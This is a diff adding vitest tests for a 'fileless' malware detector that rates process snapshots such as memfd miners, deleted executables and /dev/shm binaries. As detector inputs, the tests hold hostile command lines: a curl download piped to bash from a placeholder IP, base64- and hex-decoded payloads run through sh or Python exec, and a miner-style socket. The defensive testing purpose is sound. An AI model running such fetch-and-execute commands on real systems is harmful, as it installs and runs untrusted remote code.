@@ -1,0 +1,147 @@
+// Tests for fileless: ordinary processes (and a daemon whose binary an upgrade replaced) stay quiet
+// or low; memfd miners, curl|sh, base64 payloads, /dev/shm binaries and deleted scripts are found;
+// /tmp and a deleted cwd count only beside those.
+import { describe, expect, it } from 'vitest';
+import { defaultIocDir, loadRuleset } from '../../iocs/load.js';
+import { FindingSchema } from '../../model/finding.js';
+import {
+  cleanHostProcesses,
+  makeProcess,
+  makeSnapshot,
+  makeSocket,
+} from '../../../test/helpers/snapshot-builders.js';
+import { hiddenWith } from '../../../test/helpers/stealth-builders.js';
+import { runDetectors } from '../run.js';
+import { fileless } from './fileless.js';
+
+const ruleset = await loadRuleset([defaultIocDir()]);
+
+function levelOf(p: ReturnType<typeof makeProcess>, hidden = hiddenWith()) {
+  const { findings } = runDetectors(makeSnapshot({ processes: [p], hidden }), ruleset, [fileless]);
+  for (const f of findings) expect(FindingSchema.parse(f)).toEqual(f);
+  return findings[0];
+}
+
+describe('fileless', () => {
+  it('clean: a normal host', () => {
+    expect(runDetectors(makeSnapshot({ processes: cleanHostProcesses() }), ruleset, [fileless])).toEqual({
+      findings: [],
+      skipped: [],
+    });
+  });
+
+  it('findings: a busy memfd program is critical, an idle one medium, runc low', () => {
+    const busy = levelOf(
+      makeProcess({ pid: 50, exe: '/memfd:x', exeMemfd: true, exeDeleted: true, cpuPercent: 97 }),
+    );
+    expect(busy).toMatchObject({
+      level: 'critical',
+      kind: 'fileless',
+      remediate: [{ type: 'kill-process-tree', pid: 50, exe: '/memfd:x' }],
+    });
+    expect(busy?.message.en).toContain(
+      'anonymous memory file (/memfd:x) that never existed on disk, and it keeps a CPU core busy',
+    );
+    expect(
+      levelOf(
+        makeProcess({ pid: 51, exe: '/memfd:sealed', exeMemfd: true, cpuPercent: 0, cpuPercentLifetime: 0 }),
+      )?.level,
+    ).toBe('medium');
+    expect(
+      levelOf(makeProcess({ pid: 52, exe: '/memfd:runc_cloned:/proc/self/exe', exeMemfd: true }))?.level,
+    ).toBe('low');
+    const talking = makeProcess({
+      pid: 53,
+      exe: '/memfd:k',
+      exeMemfd: true,
+      cpuPercent: 1,
+      cpuPercentLifetime: 1,
+    });
+    const sockets = [
+      makeSocket({ pids: [53], state: 'ESTABLISHED', remoteAddress: '203.0.113.7', remotePort: 3333 }),
+    ];
+    const { findings } = runDetectors(makeSnapshot({ processes: [talking], sockets }), ruleset, [fileless]);
+    expect(findings[0]?.level).toBe('critical');
+    expect(findings[0]?.message.en).toContain('holds an open network connection');
+  });
+
+  it('findings: deleted executables: high in /var/tmp, low for an upgraded daemon in /usr/sbin', () => {
+    expect(levelOf(makeProcess({ pid: 60, exe: '/var/tmp/x', exeDeleted: true }))?.level).toBe('high');
+    expect(levelOf(makeProcess({ pid: 61, exe: '/usr/sbin/sshd', exeDeleted: true }))?.level).toBe('low');
+  });
+
+  it('findings: /dev/shm high, /tmp medium', () => {
+    expect(levelOf(makeProcess({ pid: 70, exe: '/dev/shm/kdevtmpfsi' }))?.level).toBe('high');
+    // /tmp alone is a build, not a sign; beside a deleted executable it is named too.
+    expect(levelOf(makeProcess({ pid: 71, exe: '/tmp/build/a.out' }))).toBeUndefined();
+    const both = levelOf(makeProcess({ pid: 72, exe: '/tmp/.x/a', exeDeleted: true }));
+    expect(both?.message.en).toBe(
+      'PID 72 (/tmp/.x/a (deleted)): its executable /tmp/.x/a was deleted after it started; it was started from /tmp (world-writable)',
+    );
+  });
+
+  it('findings: curl piped to sh and base64-decoded payloads are high, with the matched text', () => {
+    const curl = levelOf(
+      makeProcess({
+        pid: 80,
+        exe: '/usr/bin/bash',
+        argv: ['sh', '-c', 'curl -fsSL http://203.0.113.5/x.sh | bash'],
+      }),
+    );
+    expect(curl?.level).toBe('high');
+    expect(curl?.evidence).toContainEqual({
+      type: 'match',
+      field: 'argv',
+      value: 'curl -fsSL http://203.0.113.5/x.sh | bash',
+      ioc: 'download piped to an interpreter',
+    });
+    const b64 = levelOf(
+      makeProcess({
+        pid: 81,
+        exe: '/usr/bin/bash',
+        argv: ['bash', '-c', 'echo ZWNobyBoaQ== | base64 -d | sh'],
+      }),
+    );
+    expect(b64?.level).toBe('high');
+    expect(b64?.message['zh-CN']).toContain('解码命令行中携带的载荷');
+    const py = levelOf(
+      makeProcess({
+        pid: 82,
+        exe: '/usr/bin/python3.11',
+        argv: ['python3', '-c', 'import base64;exec(base64.b64decode("aW1wb3J0IG9z"))'],
+      }),
+    );
+    expect(py?.level).toBe('high');
+    const hex = levelOf(
+      makeProcess({
+        pid: 83,
+        exe: '/usr/bin/bash',
+        argv: ['sh', '-c', 'echo 7f454c46 | xxd -r -p > /tmp/k'],
+      }),
+    );
+    expect(hex?.level).toBe('high');
+  });
+
+  it('findings: a script deleted after start (high in /tmp); a deleted cwd alone is not reported', () => {
+    const sh = makeProcess({ pid: 90, exe: '/usr/bin/bash', argv: ['bash', '/tmp/i.sh'] });
+    const hidden = hiddenWith({ deletedScripts: [{ pid: 90, interpreter: 'bash', path: '/tmp/i.sh' }] });
+    const f = levelOf(sh, hidden);
+    expect(f?.level).toBe('high');
+    expect(f?.evidence).toContainEqual({
+      type: 'match',
+      field: 'script',
+      value: '/tmp/i.sh (deleted)',
+      ioc: 'script deleted after start',
+    });
+    // A shell in a removed directory is ordinary on its own.
+    expect(
+      levelOf(makeProcess({ pid: 91, exe: '/usr/bin/bash', cwd: '/home/a/old', cwdDeleted: true })),
+    ).toBeUndefined();
+  });
+
+  it('skipped: without a process list', () => {
+    expect(runDetectors(makeSnapshot({}), ruleset, [fileless]).skipped).toEqual([
+      { ruleId: 'fileless', missing: ['processes'] },
+    ]);
+  });
+});
